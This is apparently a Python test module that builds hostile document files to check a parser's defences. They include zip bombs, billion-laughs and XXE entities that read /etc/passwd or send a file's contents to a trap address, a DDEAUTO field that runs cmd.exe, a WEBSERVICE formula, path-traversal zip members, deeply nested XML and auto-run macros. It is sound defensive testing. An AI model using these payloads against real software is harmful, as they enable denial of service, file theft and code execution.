"""Hostile Word, Excel, OpenDocument, EPUB and old Office files: bombs, entities, links outwards, zips that lie."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping

from tests.attacks.hostile import MEBIBYTE, HostileFile, Squeezed, Traps, squeezed
from tests.attacks.hostile_zip import Member, link, member, zip_of
from tests.parsing.builders import compound, docx, entity_bomb, odt, paragraph, xlsx, zip_bomb, zipped

_HELLO = paragraph("Words.")
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def files() -> list[HostileFile]:
    """Return one of each."""
    return [*_bombs(), *_entities(), *_links(), *_nested(), *_zips(), *_sheets(), *_old(), *_locked()]


def _file(name: str, category: str, extension: str, data: bytes, *, refused: bool = False) -> HostileFile:
    return HostileFile(name, category, f"{name.replace(' ', '-')}.{extension}", lambda _: data, refused)


def _trap(name: str, category: str, extension: str, make: Callable[[Traps], bytes]) -> HostileFile:
    return HostileFile(name, category, f"{name.replace(' ', '-')}.{extension}", make)


def _around(kind: str, replaced: Mapping[str, bytes | Squeezed]) -> bytes:
    """Return a file of this kind whose parts are these where they are named."""
    parts: dict[str, bytes | Squeezed] = {**_PARTS[kind], **replaced}
    return zip_of([member(name, content) for name, content in parts.items()])


def _bombs() -> list[HostileFile]:
    words = squeezed(b"<w:p><w:r><w:t>lol lol lol</w:t></w:r></w:p>" * 20_000, 150)
    cells = squeezed(b'<row><c t="inlineStr"><is><t>lol</t></is></c></row>' * 20_000, 150)
    zeros = squeezed(bytes(MEBIBYTE), 300)
    hello = member("word/document.xml", _PARTS["docx"]["word/document.xml"])
    checked = words._replace(crc=zlib.crc32(b"<w:p><w:r>"))
    return [
        _file("zeros beside the text", "zip bomb", "docx", zip_bomb(megabytes=64), refused=True),
        _file("zeros of 300 megabytes", "zip bomb", "docx", _around("docx", {"word/media/a.bin": zeros}), refused=True),
        _file("text of 130 megabytes", "zip bomb", "docx", _around("docx", {"word/document.xml": words}), refused=True),
        _file("sheet of 150 megabytes", "zip bomb", "xlsx", _around("xlsx", {"xl/worksheets/sheet1.xml": cells}), refused=True),
        _file("strings of 150 megabytes", "zip bomb", "xlsx", _around("xlsx", {"xl/sharedStrings.xml": cells}), refused=True),
        _file("book of 300 megabytes", "zip bomb", "epub", _around("epub", {"a.xhtml": zeros}), refused=True),
        _file("300 megabytes said to be ten bytes", "zip bomb", "docx", zip_of([hello, member("word/media/a", zeros, claimed=10)]), refused=True),
        _file(
            "text said to be ten bytes, with their checksum",
            "zip bomb",
            "docx",
            zip_of([member("[Content_Types].xml", _PARTS["docx"]["[Content_Types].xml"]), member("_rels/.rels", _PARTS["docx"]["_rels/.rels"]), member("word/document.xml", checked, claimed=10)]),
            refused=True,
        ),
        _file("one member thirty thousand times", "zip bomb", "docx", zip_of([hello, member("word/media/a", squeezed(bytes(MEBIBYTE), 8))], overlapping=30_000), refused=True),
    ]  # fmt: skip


def _entities() -> list[HostileFile]:
    quadratic = docx(paragraph("&a;" * 50_000), doctype=f'<!DOCTYPE w [<!ENTITY a "{"lol" * 20_000}">]>')

    def word(declared: str, text: str = "&e;") -> Callable[[Traps], bytes]:
        def make(traps: Traps) -> bytes:
            filled = declared.replace("%URL", traps.address).replace("%FILE", traps.kept.as_uri())
            return docx(paragraph(text), _HELLO, doctype=f"<!DOCTYPE w {filled}>")

        return make

    def open_document(traps: Traps) -> bytes:
        entity = f'<!DOCTYPE o [<!ENTITY e SYSTEM "{traps.kept.as_uri()}">]><office'
        content = _PARTS["odt"]["content.xml"].replace(b"<office", entity.encode(), 1).replace(b"Words", b"Words &e;")
        return _around("odt", {"content.xml": content})

    def package(traps: Traps) -> bytes:
        declared = f'<!DOCTYPE r [<!ENTITY e SYSTEM "{traps.address}">]><Types'
        return _around(
            "docx",
            {"[Content_Types].xml": _PARTS["docx"]["[Content_Types].xml"].replace(b"<Types", declared.encode(), 1)},
        )

    return [
        _file("billion laughs", "entities", "docx", entity_bomb()),
        _file("quadratic blow-up", "entities", "docx", quadratic),
        _trap("entity of our file", "entities", "docx", word('[<!ENTITY e SYSTEM "%FILE">]')),
        _trap("entity of the accounts", "entities", "docx", word('[<!ENTITY e SYSTEM "file:///etc/passwd">]')),
        _trap("entity of an address", "entities", "docx", word('[<!ENTITY e SYSTEM "%URL">]')),
        _trap("type declared elsewhere", "entities", "docx", word('SYSTEM "%URL"', "Words.")),
        _trap("parameter that calls", "entities", "docx", word('[<!ENTITY % p SYSTEM "%URL"> %p;]', "Words.")),
        _trap("entity that calls with what it read", "entities", "docx", word('[<!ENTITY % f SYSTEM "%FILE"><!ENTITY % c "<!ENTITY e SYSTEM \'%URL?%f;\'>"> %c;]')),
        _trap("entity in OpenDocument", "entities", "odt", open_document),
        _trap("entity in the package", "entities", "docx", package),
    ]  # fmt: skip


def _links() -> list[HostileFile]:
    def related(kind: str) -> Callable[[Traps], bytes]:
        def make(traps: Traps) -> bytes:
            relation = f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="rId9" Type="{_OFFICE}/{kind}" Target="{traps.address}" TargetMode="External"/></Relationships>'
            return docx(
                _HELLO, extra={"word/_rels/document.xml.rels": relation, "word/_rels/settings.xml.rels": relation}
            )

        return make

    def included(instruction: str) -> Callable[[Traps], bytes]:
        def make(traps: Traps) -> bytes:
            filled = instruction.replace("%URL", traps.address).replace("%FILE", str(traps.kept))
            return docx(_HELLO, f'<w:p><w:fldSimple w:instr="{filled}"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>')

        return make

    def xinclude(traps: Traps) -> bytes:
        return docx(
            _HELLO,
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{traps.kept.as_uri()}" parse="text"/>',
        )

    def sheet(traps: Traps) -> bytes:
        formula = f'<row r="1"><c r="A1"><f>WEBSERVICE("{traps.address}")</f><v>1</v></c></row>'
        return _around(
            "xlsx",
            {
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}"><sheetData>{formula}</sheetData></worksheet>'.encode()
            },
        )

    def container(traps: Traps) -> bytes:
        return _around(
            "epub",
            {
                "META-INF/container.xml": _PARTS["epub"]["META-INF/container.xml"].replace(
                    b"a.opf", b"../" * 12 + str(traps.kept).encode().lstrip(b"/")
                )
            },
        )

    return [
        *(_trap(f"{kind} kept elsewhere", "links outwards", "docx", related(kind)) for kind in ("image", "attachedTemplate", "oleObject", "aFChunk", "frame")),
        _trap("field of an address", "links outwards", "docx", included("INCLUDEPICTURE %URL")),
        _trap("field of our file", "links outwards", "docx", included("INCLUDETEXT %FILE")),
        _trap("field that starts a program", "links outwards", "docx", included("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;")),
        _trap("inclusion of our file", "links outwards", "docx", xinclude),
        _trap("formula that calls", "links outwards", "xlsx", sheet),
        _trap("book whose list is our file", "links outwards", "epub", container),
    ]  # fmt: skip


def _nested() -> list[HostileFile]:
    def wrapped(tag: str, depth: int) -> bytes:
        return docx(f"<w:{tag}>" * depth + _HELLO + f"</w:{tag}>" * depth)

    table = docx("<w:tbl><w:tr><w:tc>" * 3_000 + _HELLO + "</w:tc></w:tr></w:tbl>" * 3_000)
    attributes = docx("<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>", _HELLO)
    inner = docx(_HELLO)
    for level in range(12):
        inner = docx(_HELLO, extra={f"word/embeddings/{level}.docx": inner})
    return [
        _file("deep elements", "xml nesting", "docx", wrapped("sdt", 100_000)),
        _file("deep runs", "xml nesting", "docx", wrapped("r", 50_000)),
        _file("deep tables", "xml nesting", "docx", table),
        _file("attributes without end", "xml nesting", "docx", attributes),
        _file("attribute of ten megabytes", "xml nesting", "docx", docx(f'<w:p a="{"x" * 10 * MEBIBYTE}"/>', _HELLO)),
        _file("deep OpenDocument", "xml nesting", "odt", odt("<text:span>" * 50_000 + "Words." + "</text:span>" * 50_000)),
        _file("documents in documents", "zip nesting", "docx", inner),
    ]  # fmt: skip


def _zips() -> list[HostileFile]:
    hello = [member(name, content) for name, content in _PARTS["docx"].items()]

    def placed(*names: str) -> Callable[[Traps], bytes]:
        return lambda traps: zip_of(
            [*hello, *(member(name.replace("%OUT", str(traps.outside)), b"planted") for name in names)]
        )

    whole = docx(_HELLO, extra={"word/media/a.bin": bytes(range(256)) * 40})
    return [
        _trap("member with a path of its own", "zip paths", "docx", placed("%OUT/planted", "//%OUT/planted")),
        _trap("member up and away", "zip paths", "docx", placed("../planted", "word/../../../planted", "..\\\\..\\\\planted")),
        _trap("member behind a link", "zip paths", "docx", lambda traps: zip_of([*hello, link("word/media", str(traps.outside)), member("word/media/planted", b"x")])),
        _trap("document that is a link to our file", "zip paths", "docx", lambda traps: zip_of([link("word/document.xml", str(traps.kept)), *hello[:2]])),
        _file("names with NUL", "zip paths", "docx", zip_of([*hello, member(b"a\0b/../c", b"x"), member(b"\xff\xfe", b"x")])),
        _file("name of 60000 letters", "zip paths", "docx", zip_of([*hello, member(b"a" * 60_000, b"x")])),
        _file("sixty thousand members", "zip lies", "docx", zip_of([*hello, *(member(f"{n}", b"") for n in range(60_000))])),
        _file("the document twice", "zip lies", "docx", zip_of([*hello, member("word/document.xml", b"<w:document/>")])),
        _file("unknown method", "zip lies", "docx", zip_of([*hello, member("word/a", b"x", method=99)]), refused=True),
        _file("method of old", "zip lies", "docx", zip_of([*hello, member("word/a", b"x" * 99, method=1)]), refused=True),
        _file("four gigabytes said", "zip lies", "docx", zip_of([*hello, member("word/a", b"x", claimed=2**32 - 2)])),
        _file("comment that is a zip", "zip lies", "docx", zip_of(hello, comment=zipped({"a": "b"})[:60_000])),
        *(_file(f"Word file cut after {share} percent", "truncated", "docx", whole[: len(whole) * share // 100], refused=True) for share in (10, 50, 90, 99)),
    ]  # fmt: skip


def _sheets() -> list[HostileFile]:
    def sheet(rows: str) -> bytes:
        return _around(
            "xlsx",
            {
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}"><dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>'.encode()
            },
        )

    def cell(place: str) -> str:
        return f'<c r="{place}" t="inlineStr"><is><t>Words</t></is></c>'

    def open_sheet(columns: int, rows: int) -> bytes:
        table = f'<table:table><table:table-row table:number-rows-repeated="{rows}"><table:table-cell table:number-columns-repeated="{columns}" office:value-type="string"><text:p>lol</text:p></table:table-cell></table:table-row></table:table>'
        names = "".join(
            f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
        )
        content = f"<office:document-content{names}><office:body><office:spreadsheet>{table}</office:spreadsheet></office:body></office:document-content>"
        return _around(
            "odt", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()}
        )

    corners = f'<row r="1">{cell("A1")}</row><row r="1048576">{cell("XFD1048576")}</row>'
    return [
        _file("two cells in the far corners", "sheet", "xlsx", sheet(corners)),
        _file("cell past the last column", "sheet", "xlsx", sheet(f'<row r="1">{cell("ZZZZZZZ99999999999")}</row>')),
        _file("string that isn't there", "sheet", "xlsx", sheet('<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>')),
        _file("two thousand sheets", "sheet", "xlsx", xlsx({f"S{n}": [["a"]] for n in range(2_001)}), refused=True),
        _file("cell repeated a million million times", "sheet", "ods", open_sheet(10**6, 10**6)),
        _file("cell repeated sixteen thousand times", "sheet", "ods", open_sheet(16_384, 1_000)),
    ]  # fmt: skip


def _old() -> list[HostileFile]:
    """Compound files (MS-CFB): a header whose chains of sectors lead in circles."""

    def circle(name: str) -> bytes:
        header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
        header += struct.pack("<HHHHH6xIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0, 0)
        header = header.ljust(512, b"\0")[:76] + struct.pack("<I", 0) + b"\xff" * 432
        table = struct.pack("<II", 0xFFFFFFFD, 1) + struct.pack("<I", 2) + b"\xff" * 500
        entry = name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 2 * len(name) + 2, 2, 1)
        entry += struct.pack("<III", 0, 0, 0) + bytes(36) + struct.pack("<IQ", 1, 2**40)
        return header + table[:512] + (entry * 4)[:512] + bytes(512)

    return [
        *(_file(f"{kind} that leads in circles", "old office", kind, circle(name)) for kind, name in (("doc", "WordDocument"), ("xls", "Workbook"), ("ppt", "PowerPoint Document"), ("msg", "__properties_version1.0"))),
        _file("doc of zeros", "old office", "doc", compound("WordDocument"), refused=True),
        _file("deep groups", "old office", "rtf", b"{\\rtf1 " + b"{" * 500_000 + b"Words." + b"}" * 500_000 + b"}"),
        _file("two gigabytes announced", "old office", "rtf", b"{\\rtf1 Words. {\\pict\\bin2147483647 x}}"),
        _file("object that starts", "old office", "rtf", b"{\\rtf1 Words. {\\object\\objautlink\\objupdate{\\*\\objdata " + b"d0cf11e0" * 1000 + b"}}}"),
        _file("letters of every code", "old office", "rtf", b"{\\rtf1 " + b"".join(b"\\u%d?" % n for n in range(-40_000, 70_000, 7)) + b"}"),
    ]  # fmt: skip


def _locked() -> list[HostileFile]:
    macro: dict[str, str | bytes] = {
        "word/vbaProject.bin": compound("VBA") + b'AutoOpen Shell "calc"',
        "word/vbaData.xml": "<x/>",
    }
    hello: list[Member] = [member(name, content) for name, content in _PARTS["docx"].items()]
    return [
        _file("Word behind a password", "encrypted", "docx", compound("EncryptedPackage"), refused=True),
        _file("zip behind a password", "encrypted", "docx", zip_of([*hello, member("word/a", b"x", flags=1)]), refused=True),
        _file("OpenDocument behind a password", "encrypted", "odt", odt("Words.", encrypted=True), refused=True),
        _file("Word with macros", "macros", "docm", docx(_HELLO, extra=macro)),
        _file("Excel with macros", "macros", "xlsm", _around("xlsx", {"xl/vbaProject.bin": compound("VBA")})),
        _file("Excel with macros of version 4", "macros", "xlsm", _around("xlsx", {"xl/macrosheets/sheet1.xml": b"<x>=EXEC(&quot;calc&quot;)</x>"})),
    ]  # fmt: skip


def _parts_of(data: bytes) -> dict[str, bytes]:
    import io  # noqa: PLC0415 - once, while this module loads
    import zipfile  # noqa: PLC0415

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


_EPUB = {
    "mimetype": "application/epub+zip",
    "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    "a.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
    "a.xhtml": "<html><body><p>Words.</p></body></html>",
}
_PARTS = {
    "docx": _parts_of(docx(_HELLO)),
    "xlsx": _parts_of(xlsx({"One": [["Words"]]})),
    "odt": _parts_of(odt("Words.")),
    "epub": _parts_of(zipped(_EPUB)),
}
"""Good files, part by part."""
